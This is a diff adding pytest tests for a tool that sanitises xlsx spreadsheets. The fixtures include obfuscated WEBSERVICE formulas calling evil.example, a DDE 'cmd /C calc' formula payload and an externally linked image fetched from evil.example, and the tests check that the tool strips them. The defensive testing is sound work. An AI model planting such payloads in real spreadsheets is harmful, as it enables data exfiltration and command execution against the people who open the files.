@@ -6,10 +6,13 @@ package edited directly, and openpyxl."""
 
 from __future__ import annotations
 
+import io
 import re
 import shutil
+import struct
 import subprocess
 import zipfile
+import zlib
 from datetime import date
 from pathlib import Path
 
@@ -301,3 +304,74 @@ def test_libreoffice_opens_the_cleaned_copy(tmp_path):
     with zipfile.ZipFile(converted) as archive:
         content = archive.read("content.xml").decode()
     assert "Tải hồ sơ" in content and SHEET in content and EVIL not in content
+
+
+def _rewritten(path: Path, part: str, change) -> Path:
+    """`path` with the zip member `part` changed by `change(text)`."""
+    with zipfile.ZipFile(path) as old:
+        members = {name: old.read(name) for name in old.namelist()}
+    members[part] = change(members[part].decode()).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+        for name, data in members.items():
+            new.writestr(name, data)
+    return path
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        '<f>_xlfn.WEB<!-- x -->SERVICE("http://evil.example")</f>',
+        '<f><![CDATA[_xlfn.WEBSERVICE("http://evil.example")]]></f>',
+        '<f t="normal" >_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)</f >',
+        "<f>&#x5F;xlfn.&#87;EBSERVICE(A1)</f>",
+        '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        "cmd|' /C calc'!A0</x:f>",
+    ],
+)
+def test_formulas_written_unusually_are_found(tmp_path, hidden):
+    source = _rewritten(
+        _hostile(tmp_path / "cam_thanh.xlsx"),
+        "xl/worksheets/sheet1.xml",
+        lambda text: re.sub(r"(<c r=\"B2\" t=\"str\">)<f>.*?</f>", lambda m: m[1] + hidden, text),
+    )
+    out = _copy(source, tmp_path, "direct")
+    cell = openpyxl.load_workbook(out)[DATA_SHEET]["B2"]
+    assert cell.data_type != "f" and cell.value == "đã gửi"
+
+
+def _png() -> bytes:
+    """A one-pixel PNG image."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    pixels = zlib.compress(b"\x00\xff\x00\x00")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+    )
+
+
+def test_a_linked_picture_keeps_no_link(tmp_path):
+    """A picture whose image is fetched from the web when the file opens (`r:link`)."""
+    path = tmp_path / "anh.xlsx"
+    book = xlsxwriter.Workbook(path)
+    sheet = book.add_worksheet(DATA_SHEET)
+    sheet.write("E12", "Đạt")
+    sheet.insert_image("B2", "anh.png", {"image_data": io.BytesIO(_png())})
+    book.close()
+    _rewritten(path, "xl/drawings/drawing1.xml", lambda t: t.replace("r:embed=", "r:link="))
+    _rewritten(
+        path,
+        "xl/drawings/_rels/drawing1.xml.rels",
+        lambda t: re.sub(r'Target="[^"]*"', 'Target="http://evil.example/a.png" '
+                         'TargetMode="External"', t),
+    )  # fmt: skip
+    out = _copy(path, tmp_path, "direct")
+    with zipfile.ZipFile(out) as archive:
+        assert not any(EVIL.encode() in archive.read(n) for n in archive.namelist())
+        drawing = archive.read("xl/drawings/drawing1.xml")
+    assert b"r:link" not in drawing and b"<xdr:pic>" in drawing
+    assert openpyxl.load_workbook(out)[DATA_SHEET]["E12"].comment is not None
